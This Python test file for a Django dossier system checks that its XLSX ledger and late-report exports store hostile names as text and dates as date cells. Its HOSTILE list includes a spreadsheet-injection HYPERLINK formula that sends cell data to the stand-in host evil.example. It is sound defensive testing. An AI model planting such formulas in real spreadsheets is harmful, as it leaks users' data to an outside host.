"""Exports run no formulas: a hostile applicant or officer name comes back as text, dates as date cells
(Mẫu 06 ledger, the late-dossier report)."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers import services
from dossiers.lateness.sweep import sweep_deadlines

from .conftest import APPLICANT, at

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B3,"Xem hồ sơ")', "=1+2", "@SUM(A1)"]


def test_the_ledger_xlsx_keeps_hostile_names_as_text_and_dates_as_date_cells(client, world):
    made = [services.dossier_create_at_desk(actor=world.reception, version=world.household, agency=world.pleiku,
                                            at=at(2026, 3, 2, 10 + i), **{**APPLICANT, "applicant_name": name,
                                                                          "applicant_address": "-1+1 Trần Phú"})
            for i, name in enumerate(HOSTILE)]
    client.force_login(world.reception)
    xlsx = client.get(reverse("dossiers:ledger"), {"agency": "H21.65", "from": "2026-03-01", "to": "2026-03-31",
                                                   "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    for row, (dossier, name) in enumerate(zip(made, HOSTILE, strict=True), start=3):
        assert sheet.cell(row=row, column=2).value == dossier.code
        cell = sheet.cell(row=row, column=5)  # Tên cá nhân, tổ chức
        assert cell.data_type == "s" and cell.value == name
        address = sheet.cell(row=row, column=6)
        assert address.data_type == "s" and address.value.startswith("-1+1 Trần Phú")
        received = sheet.cell(row=row, column=8)
        assert received.is_date and received.value == dt.datetime(2026, 3, 2, 10 + row - 3)
        assert received.number_format.startswith("dd/mm/yyyy")
        assert sheet.cell(row=row, column=9).is_date  # the appointment
        assert sheet.cell(row=row, column=1).value == row - 2 and sheet.cell(row=row, column=1).data_type == "n"


def test_the_late_report_xlsx_keeps_a_hostile_officer_name_as_text(client, world):
    world.appraiser.full_name = "=1+2"
    world.appraiser.save(update_fields=["full_name"])
    d = services.dossier_create_at_desk(actor=world.reception, version=world.household, agency=world.pleiku,
                                        at=at(2026, 3, 2, 10), **APPLICANT)
    services.dossier_assign(dossier=d, actor=world.reception, appraiser=world.appraiser, at=at(2026, 3, 2, 10))
    sweep_deadlines(now=at(2026, 3, 9, 9))  # overdue
    client.force_login(world.approver)
    xlsx = client.get("/ho-so/bao-cao/tre-han/", {"format": "xlsx", "from": "2026-03-01", "to": "2026-03-31"})
    book = load_workbook(io.BytesIO(xlsx.content))
    by_officer = book["Theo cán bộ"]
    names = [c for c in by_officer["A"] if c.value == "=1+2"]
    assert names and all(c.data_type == "s" for c in names)
    rows = list(book["Danh sách hồ sơ"].iter_rows(min_row=2))
    line = next(r for r in rows if r[0].value == d.code)
    assert line[3].value == "=1+2" and line[3].data_type == "s"
    d.refresh_from_db()
    from django.utils import timezone

    assert line[4].is_date and line[4].value == timezone.localtime(d.due_at).replace(tzinfo=None)
